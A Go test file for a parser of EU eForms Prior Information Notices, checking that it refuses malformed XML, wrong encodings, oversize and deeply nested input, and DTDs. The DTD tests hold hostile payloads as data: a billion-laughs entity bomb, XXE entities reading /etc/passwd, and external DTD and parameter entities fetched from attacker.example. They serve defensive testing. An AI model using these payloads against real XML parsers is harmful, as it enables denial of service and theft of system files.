package eforms

import (
	"errors"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"
)

// Notices of other kinds are refused by their root element.
func TestParseNotPIN(t *testing.T) {
	for file, root := range map[string]string{
		"cn_24_maximal.xml":  "ContractNotice",
		"cn_24_minimal.xml":  "ContractNotice",
		"can_24_maximal.xml": "ContractAwardNotice",
	} {
		t.Run(file, func(t *testing.T) {
			e := parseErr(t, example(t, file))
			if e.Code != CodeNotPIN || e.Element != root {
				t.Errorf("error {%s %s}, want {%s %s}", e.Code, e.Element, CodeNotPIN, root)
			}
			if !strings.Contains(e.Error(), root) {
				t.Errorf("Error() = %q does not name %s", e.Error(), root)
			}
		})
	}
	// The right name in the wrong namespace is no PIN either.
	e := parseErr(t, `<PriorInformationNotice xmlns="urn:example:other"/>`)
	if e.Code != CodeNotPIN || e.Element != rootName || e.Value != "urn:example:other" {
		t.Errorf("error {%s %s %q}, want {%s %s urn:example:other}", e.Code, e.Element, e.Value, CodeNotPIN, rootName)
	}
}

// Input that is not well-formed XML.
func TestParseMalformed(t *testing.T) {
	const open = `<PriorInformationNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:PriorInformationNotice-2">`
	tests := map[string]string{
		"empty":                  "",
		"only white space":       " \n\t",
		"text":                   "not XML at all",
		"truncated":              minimalPIN[:len(minimalPIN)/2],
		"end tag mismatch":       open + "<a></b></PriorInformationNotice>",
		"unclosed root":          open,
		"text after the root":    minimalPIN + "trailing",
		"a second root":          minimalPIN + "<PriorInformationNotice/>",
		"invalid UTF-8":          strings.Replace(minimalPIN, "Falu kommun", "Falu \xff kommun", 1),
		"an undefined entity":    strings.Replace(minimalPIN, "Falu kommun", "Falu &kommun;", 1),
		"a control character":    strings.Replace(minimalPIN, "Falu kommun", "Falu \x01 kommun", 1),
		"an attribute unquoted":  open + "<a b=c/></PriorInformationNotice>",
		"text before the root":   "x" + minimalPIN[len(`<?xml version="1.0" encoding="UTF-8"?>`):],
		"an unclosed comment":    minimalPIN + "<!-- ",
		"a lone less-than sign":  strings.Replace(minimalPIN, "Falu kommun", "Falu < kommun", 1),
		"a duplicate xml header": `<?xml version="1.0"?>` + minimalPIN,
	}
	for name, doc := range tests {
		t.Run(name, func(t *testing.T) {
			e := parseErr(t, doc)
			if e.Code != CodeMalformed {
				t.Errorf("code %s (%v), want %s", e.Code, e, CodeMalformed)
			}
		})
	}

	doc := example(t, "pin-only_24_maximal.xml")
	e := parseErr(t, doc[:len(doc)/2])
	if e.Code != CodeMalformed || e.Line == 0 {
		t.Errorf("truncated example: {%s line %d} %v, want %s with a line", e.Code, e.Line, e, CodeMalformed)
	}
	// A byte order mark is not text before the root.
	mustParseString(t, "\ufeff"+minimalPIN)
}

// Any DTD or entity declaration is refused, wherever it stands: nothing
// is expanded, nothing is fetched.
func TestParseDTD(t *testing.T) {
	const decl = `<?xml version="1.0" encoding="UTF-8"?>`
	body := strings.TrimPrefix(minimalPIN, decl)
	laughs := `<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`
	tests := []struct {
		name    string
		doc     string
		element string
		value   string
	}{{
		name:  "billion laughs",
		doc:   decl + laughs + strings.Replace(body, "Falu kommun", "&lol9;", 1),
		value: "DOCTYPE",
	}, {
		name:  "external entity (XXE)",
		doc:   decl + `<!DOCTYPE PriorInformationNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` + strings.Replace(body, "Falu kommun", "&xxe;", 1),
		value: "DOCTYPE",
	}, {
		name:  "external DTD",
		doc:   decl + `<!DOCTYPE PriorInformationNotice SYSTEM "http://attacker.example/evil.dtd">` + body,
		value: "DOCTYPE",
	}, {
		name:  "parameter entity",
		doc:   decl + `<!DOCTYPE x [<!ENTITY % ext SYSTEM "http://attacker.example/x"> %ext;]>` + body,
		value: "DOCTYPE",
	}, {
		name:    "an entity declaration inside the root",
		doc:     strings.Replace(minimalPIN, "<cbc:VersionID>", `<!ENTITY xxe SYSTEM "file:///etc/passwd"><cbc:VersionID>`, 1),
		element: rootName,
		value:   "ENTITY",
	}, {
		name:  "a DOCTYPE after the root",
		doc:   minimalPIN + `<!DOCTYPE x>`,
		value: "DOCTYPE",
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			e := parseErr(t, tt.doc)
			if e.Code != CodeDTD || e.Element != tt.element || e.Value != tt.value {
				t.Errorf("error {%s %q %q}, want {%s %q %q}", e.Code, e.Element, e.Value, CodeDTD, tt.element, tt.value)
			}
			if strings.Contains(e.Error(), "root:") {
				t.Errorf("Error() = %q shows a file's content", e.Error())
			}
			if d := time.Since(start); d > time.Second {
				t.Errorf("took %v", d)
			}
		})
	}

	doc := example(t, "pin-only_24_maximal.xml")
	e := parseErr(t, replace(t, doc, "?>", "?>"+laughs, 1))
	if e.Code != CodeDTD {
		t.Errorf("example with a DTD: code %s, want %s", e.Code, CodeDTD)
	}
}

// Only UTF-8 is read.
func TestParseEncoding(t *testing.T) {
	for _, enc := range []string{"ISO-8859-1", "windows-1252", "UTF-16", "ebcdic"} {
		e := parseErr(t, strings.Replace(minimalPIN, `encoding="UTF-8"`, `encoding="`+enc+`"`, 1))
		if e.Code != CodeEncoding || e.Value != enc {
			t.Errorf("%s: error {%s %q}, want {%s %q}", enc, e.Code, e.Value, CodeEncoding, enc)
		}
	}
	for _, enc := range []string{"utf-8", "UTF8"} {
		mustParseString(t, strings.Replace(minimalPIN, `encoding="UTF-8"`, `encoding="`+enc+`"`, 1))
	}
}

// countReader counts the bytes read from it.
type countReader struct {
	r io.Reader
	n int64
}

func (c *countReader) Read(b []byte) (int, error) {
	n, err := c.r.Read(b)
	c.n += int64(n)
	return n, err
}

// A notice of MaxNoticeBytes is read; one byte more is refused, and an
// endless input is read no further than that.
func TestParseSize(t *testing.T) {
	pad := func(size int) string { return minimalPIN + strings.Repeat(" ", size-len(minimalPIN)) }
	if n := mustParseString(t, pad(MaxNoticeBytes)); n.ID == "" {
		t.Error("no ID")
	}
	if e := parseErr(t, pad(MaxNoticeBytes+1)); e.Code != CodeTooLarge {
		t.Errorf("one byte too many: code %s (%v), want %s", e.Code, e, CodeTooLarge)
	}
	// Large inside the root too: a huge comment in the middle of a lot.
	big := strings.Replace(minimalPIN, "<cbc:ID schemeName=\"Part\">", "<!--"+strings.Repeat("x", MaxNoticeBytes)+"--><cbc:ID schemeName=\"Part\">", 1)
	if e := parseErr(t, big); e.Code != CodeTooLarge {
		t.Errorf("large comment: code %s (%v), want %s", e.Code, e, CodeTooLarge)
	}

	endless := &countReader{r: io.MultiReader(strings.NewReader(minimalPIN[:strings.Index(minimalPIN, "Falu kommun")]), zeros{})}
	_, err := Parse(endless)
	var e *Error
	if !errors.As(err, &e) || e.Code != CodeTooLarge {
		t.Errorf("endless input: %v, want %s", err, CodeTooLarge)
	}
	if endless.n > MaxNoticeBytes+1 {
		t.Errorf("read %d bytes of an endless input, want at most %d", endless.n, MaxNoticeBytes+1)
	}
}

// zeros is an endless text of '0'.
type zeros struct{}

func (zeros) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = '0'
	}
	return len(b), nil
}

// Deep nesting is refused at MaxDepth, at once.
func TestParseDepth(t *testing.T) {
	const open = `<PriorInformationNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:PriorInformationNotice-2">`
	doc := open + strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000) + "</PriorInformationNotice>"
	start := time.Now()
	e := parseErr(t, doc)
	if d := time.Since(start); d > time.Second {
		t.Errorf("took %v", d)
	}
	if e.Code != CodeTooDeep || !strings.HasPrefix(e.Element, rootName+"/a/a/") {
		t.Errorf("error {%s %.40s…}, want {%s %s/a/a/…}", e.Code, e.Element, CodeTooDeep, rootName)
	}
	if len(e.Element) > maxShown+len("…") {
		t.Errorf("element path of %d bytes", len(e.Element))
	}

	// As deep as allowed is read.
	ok := strings.Replace(minimalPIN, "<cbc:VersionID>", strings.Repeat("<a>", MaxDepth-1)+strings.Repeat("</a>", MaxDepth-1)+"<cbc:VersionID>", 1)
	mustParseString(t, ok)
}

// A notice as large as allowed, of about 7 000 lots, is read in time
// linear in its size.
func TestParseManyLots(t *testing.T) {
	lot := block(t, minimalPIN, "<cac:ProcurementProjectLot>", "</cac:ProcurementProjectLot>")
	count := (MaxNoticeBytes - len(minimalPIN)) / len(lot)
	doc := strings.Replace(minimalPIN, lot, strings.Repeat(lot, count), 1)
	start := time.Now()
	n := mustParseString(t, doc)
	if len(n.Lots) != count {
		t.Errorf("%d lots, want %d", len(n.Lots), count)
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("took %v", d)
	}
	// The error path of the last lot carries its index.
	bad := strings.Replace(doc, ">1500000<", ">15 000<", count)
	bad = strings.Replace(bad, ">15 000<", ">1500000<", count-1)
	e := parseErr(t, bad)
	want := rootName + "/cac:ProcurementProjectLot[" + strconv.Itoa(count) + "]/cac:ProcurementProject/cac:RequestedTenderTotal/cbc:EstimatedOverallContractAmount"
	if e.Code != CodeInvalidAmount || e.Element != want {
		t.Errorf("error {%s %s}, want {%s %s}", e.Code, e.Element, CodeInvalidAmount, want)
	}
}

// errReader fails after its text.
type errReader struct{ err error }

func (r errReader) Read([]byte) (int, error) { return 0, r.err }

// A failing input is a read error that keeps its cause.
func TestParseReadError(t *testing.T) {
	cause := errors.New("connection reset")
	_, err := Parse(io.MultiReader(strings.NewReader(minimalPIN[:100]), errReader{cause}))
	var e *Error
	if !errors.As(err, &e) || e.Code != CodeRead || !errors.Is(err, cause) {
		t.Errorf("Parse = %v, want %s wrapping %v", err, CodeRead, cause)
	}
}

func BenchmarkParseExample(b *testing.B) {
	doc := example(b, "pin-only_24_maximal.xml")
	b.SetBytes(int64(len(doc)))
	for b.Loop() {
		if _, err := Parse(strings.NewReader(doc)); err != nil {
			b.Fatal(err)
		}
	}
}
